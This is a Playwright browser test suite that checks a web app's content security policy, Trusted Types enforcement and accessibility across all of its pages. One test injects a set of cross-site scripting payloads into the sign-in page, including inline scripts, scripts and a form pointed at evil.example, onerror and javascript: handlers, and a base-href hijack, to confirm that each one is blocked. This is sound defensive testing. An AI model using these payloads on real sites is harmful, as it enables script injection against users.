import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { hasBrowser, launchBrowser, NO_BROWSER, openPage } from '../support/browser';
import { PASSWORD, startTestApp, type TestApp } from '../support/test-app';
import { findViolations, scrollsSideways } from '../support/web-page';

const describeInBrowser = hasBrowser ? describe : describe.skip;
if (!hasBrowser) console.warn(`The policy of the pages is not tested: ${NO_BROWSER}.`);

/** The paths of every page of the application; `:id` is a user. */
const PATHS = [...readFileSync(join(__dirname, '../../web/src/pages.ts'), 'utf8').matchAll(/path: '([^']+)'/g)].map(
  ([, path = '']) => path,
);

describeInBrowser('The pages in Chromium, under their content security policy', () => {
  let app: TestApp;
  let browser: Browser;
  let adminId: string;

  beforeAll(async () => {
    app = await startTestApp({ NODE_ENV: 'development' });
    const token = await app.adminToken('root');
    adminId = (await app.graphql('{ me { id } }', { token })).data.me.id;
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await app?.stop();
  });

  test('nothing of them is blocked, and nothing is requested from another machine', async () => {
    const { page, complaints, outside } = await openPage(browser);
    const refused: string[] = [];
    page.on('response', (response) => {
      // GraphQL answers some of its errors with a status above 399, and the pages show them.
      if (response.status() >= 400 && !response.url().endsWith('/graphql')) refused.push(response.url());
    });
    await page.goto(`${app.url}/account/sign-in`);
    await page.getByLabel(/Username/).fill('root');
    await page.getByLabel(/^Password/).fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.waitForURL(`${app.url}/account`);
    expect(PATHS.length).toBeGreaterThan(15);
    for (const path of PATHS) {
      await page.goto(app.url + path.replace(/:\w+/, adminId));
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      // The data of the page has come.
      await page.waitForLoadState('networkidle');
    }
    expect(outside).toEqual([]);
    expect(refused).toEqual([]);
    // Chromium reports every answer above 399.
    expect(complaints.filter((text) => !text.startsWith('Failed to load resource'))).toEqual([]);
  });

  // The tests of each page look at its states and dialogs; this one forgets no page.
  test('every page in German, on a phone in the dark and on a notebook in the light, has nothing that axe finds', async () => {
    const context = await browser.newContext({ locale: 'de-DE' });
    const page = await context.newPage();
    await page.goto(`${app.url}/account/sign-in`);
    const found: unknown[] = [];
    const look = async (path: string) => {
      for (const [width, colorScheme] of [
        [390, 'dark'],
        [1280, 'light'],
      ] as const) {
        await page.setViewportSize({ width, height: 844 });
        await page.emulateMedia({ colorScheme });
        await page.goto(app.url + path.replace(/:\w+/, adminId));
        await page.getByRole('heading', { level: 1 }).first().waitFor();
        await page.waitForLoadState('networkidle');
        expect(await page.evaluate(() => document.documentElement.lang)).toBe('de');
        for (const violation of await findViolations(page)) found.push({ path, width, colorScheme, ...violation });
        if (await scrollsSideways(page)) found.push({ path, width, colorScheme, id: 'wider than the window' });
      }
    };
    const cards = PATHS.slice(0, PATHS.indexOf('/account'));
    expect(cards).toContain('/account/sign-in');
    for (const path of cards) await look(path);
    await page.goto(`${app.url}/account/sign-in`);
    await page.locator('input[name="username"]').fill('root');
    await page.locator('input[name="password"]').fill(PASSWORD);
    await page.locator('button[type="submit"]').first().click();
    await page.waitForURL(`${app.url}/account`);
    for (const path of PATHS.slice(cards.length)) await look(path);
    await context.close();
    expect(found).toEqual([]);
  });

  test('markup that is injected into the page does nothing', async () => {
    const { page, complaints, outside } = await openPage(browser);
    await page.route(`${app.url}/account/sign-in`, async (route) => {
      const response = await route.fetch();
      const attack = `<script>window.hacked = 'inline'</script><script src="https://evil.example/x.js"></script>
        <script src="data:text/javascript,window.hacked = 'data'"></script><img src="x:" onerror="window.hacked = 'handler'">
        <a id="trap" href="javascript:window.hacked = 'link'">x</a><style>body { color: rgb(1, 2, 3) }</style>
        <link rel="stylesheet" href="https://evil.example/x.css"><iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
        <form id="form" action="https://evil.example/"><input name="a"></form><base href="https://evil.example/">`;
      await route.fulfill({ response, body: (await response.text()).replace('<div id="root">', `${attack}$&`) });
    });
    await page.goto(`${app.url}/account/sign-in`);
    await page.getByLabel(/Username/).waitFor();
    const state = await page.evaluate(async () => {
      document.querySelector<HTMLElement>('#trap')?.click();
      document.querySelector<HTMLFormElement>('#form')?.requestSubmit();
      const sent = await fetch('https://evil.example/').then(
        () => true,
        () => false,
      );
      const { hacked } = window as { hacked?: string };
      return { sent, hacked, color: getComputedStyle(document.body).color, base: document.baseURI };
    });
    expect(state).toEqual({
      sent: false,
      hacked: undefined,
      color: expect.not.stringContaining('rgb(1, 2, 3)'),
      base: `${app.url}/account/sign-in`,
    });
    expect(page.url()).toBe(`${app.url}/account/sign-in`);
    expect(outside).toEqual([]);
    expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(8);
  });

  test('no code of the page can turn a text into markup or a script', async () => {
    const { page } = await openPage(browser);
    await page.goto(`${app.url}/account/sign-in`);
    await page.getByLabel(/Username/).waitFor();
    const refused = await page.evaluate(() => {
      const tries: Record<string, () => unknown> = {
        innerHTML: () => {
          document.createElement('div').innerHTML = '<img src="x:">';
        },
        outerHTML: () => {
          document.body.firstElementChild?.insertAdjacentHTML('afterend', '<p>');
        },
        srcdoc: () => {
          document.createElement('iframe').srcdoc = '<p>';
        },
        src: () => {
          document.createElement('script').src = '/web/assets/x.js';
        },
        text: () => {
          document.createElement('script').text = 'x';
        },
        parse: () => new DOMParser().parseFromString('<p>', 'text/html'),
        policy: () =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
          ).trustedTypes.createPolicy('other', { createHTML: (text: string) => text }),
      };
      return Object.entries(tries).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch {
          return [name];
        }
      });
    });
    expect(refused).toEqual(['innerHTML', 'outerHTML', 'srcdoc', 'src', 'text', 'parse', 'policy']);
  });
});
